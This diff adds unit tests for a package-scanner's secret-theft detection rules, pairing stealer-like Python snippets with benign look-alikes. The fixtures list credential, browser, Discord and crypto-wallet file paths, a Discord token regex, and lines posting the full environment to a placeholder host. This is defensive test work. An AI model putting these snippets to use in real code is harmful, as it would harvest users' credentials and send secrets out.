@@ -1,0 +1,112 @@
+"""Secret sources: each rule on a stealer-like snippet and on the benign code that resembles it."""
+
+from __future__ import annotations
+
+from rulekit import ids, py, run
+
+from pipvet.analysis.rules import secrets
+from pipvet.models import Severity, Stage
+
+R = secrets.RULES
+
+
+def test_one_credential_file_is_weak_like_an_sdk() -> None:
+    benign = py(
+        "import os\n"
+        "def creds_path():\n"
+        "    return os.path.join(os.path.expanduser('~'), '.aws', 'credentials')\n"
+    )
+    found = run(R, benign)
+    assert ids(found) == {"PV-SEC-CREDFILE"}
+    assert found[0].severity is Severity.LOW
+    assert found[0].stage is Stage.RUNTIME  # inside a function nobody calls at import
+
+
+def test_harvesting_many_credential_stores_is_high() -> None:
+    bad = py(
+        "import os\n"
+        "home = os.path.expanduser('~')\n"
+        "targets = [home + '/.aws/credentials', home + '/.ssh/id_rsa', home + '/.kube/config',\n"
+        "           home + '/.docker/config.json', home + '/.bash_history']\n"
+    )
+    found = [f for f in run(R, bad) if f.rule == "PV-SEC-CREDFILE"]
+    assert found[0].severity is Severity.HIGH
+    assert found[0].stage is Stage.IMPORT
+    assert "AWS credentials" in found[0].message
+
+
+def test_browser_wallet_and_discord_stores() -> None:
+    bad = py(
+        "import os\n"
+        "LOCAL = os.getenv('LOCALAPPDATA')\n"
+        "paths = {'Chrome': LOCAL + '\\\\Google\\\\Chrome\\\\User Data\\\\Default\\\\Login Data',\n"
+        "         'Discord': os.getenv('APPDATA') + '\\\\discord\\\\Local Storage\\\\leveldb'}\n"
+        "wallet = os.getenv('APPDATA') + '\\\\Exodus\\\\exodus.wallet'\n"
+    )
+    found = [f for f in run(R, bad) if f.rule == "PV-SEC-STEALER"]
+    assert len(found) == 1
+    assert found[0].severity is Severity.CRITICAL
+    assert "Discord tokens" in found[0].message
+    assert "crypto wallets" in found[0].message
+
+
+def test_discord_token_regex_alone_is_high() -> None:
+    bad = py("import re\nTOKEN = re.compile(r'[\\w-]{24}\\.[\\w-]{6}\\.[\\w-]{27}')\n")
+    found = [f for f in run(R, bad) if f.rule == "PV-SEC-STEALER"]
+    assert found
+    assert found[0].severity is Severity.HIGH
+
+
+def test_browser_words_in_ordinary_code_do_not_fire() -> None:
+    benign = py(
+        "def set_cookie(response, name, value):\n"
+        "    '''Store a cookie; see the browser's cookies panel.'''\n"
+        "    response.headers['Set-Cookie'] = f'{name}={value}'\n"
+        "STATE = 'local state of the parser'\n"
+    )
+    assert run(R, benign) == []
+
+
+def test_environment_dump_versus_copy_for_subprocess() -> None:
+    bad = py(
+        "import os, json, requests\nrequests.post('https://x.example/c', data=json.dumps(dict(os.environ)))\n"
+    )
+    assert "PV-SEC-ENVDUMP" in ids(run(R, bad))
+    also_bad = py("import os, requests\nrequests.post('https://x.example/c', json=os.environ.copy())\n")
+    assert "PV-SEC-ENVDUMP" in ids(run(R, also_bad))
+    benign = py(
+        "import os, subprocess\n"
+        "env = os.environ.copy()\n"
+        "env['LANG'] = 'C'\n"
+        "proxy = os.environ.get('HTTP_PROXY')\n"
+        "subprocess.run(['git', 'status'], env=env)\n"
+    )
+    assert run(R, benign) == []
+
+
+def test_fingerprint_beacon_versus_single_fact() -> None:
+    bad = py(
+        "import getpass, socket, platform\n"
+        "info = getpass.getuser() + '###' + socket.gethostname() + '###' + platform.system()\n"
+    )
+    found = [f for f in run(R, bad) if f.rule == "PV-SEC-FINGERPRINT"]
+    assert found
+    assert found[0].severity is Severity.MEDIUM
+    benign = py("import socket\nHOST = socket.gethostname()\n")
+    assert run(R, benign) == []
+
+
+def test_text_fallback_on_python2_source() -> None:
+    bad = py(
+        "import os\nprint 'x'\np = os.environ['APPDATA'] + r'\\Google\\Chrome\\User Data\\Local State'\n"
+    )
+    assert bad.tree is None
+    assert "PV-SEC-STEALER" in ids(run(R, bad))
+
+
+def test_environment_reference_strings_are_not_dumps() -> None:
+    benign = py(
+        "EXAMPLE = {'api_key': 'os.environ/AZURE_OPENAI_API_KEY', 'creds': 'os.environ/GOOGLE_CREDS'}\n"
+        "HEADERS = {'Authorization': 'Bearer os.environ/COHERE_API_KEY'}\n"
+    )
+    assert run(R, benign) == []
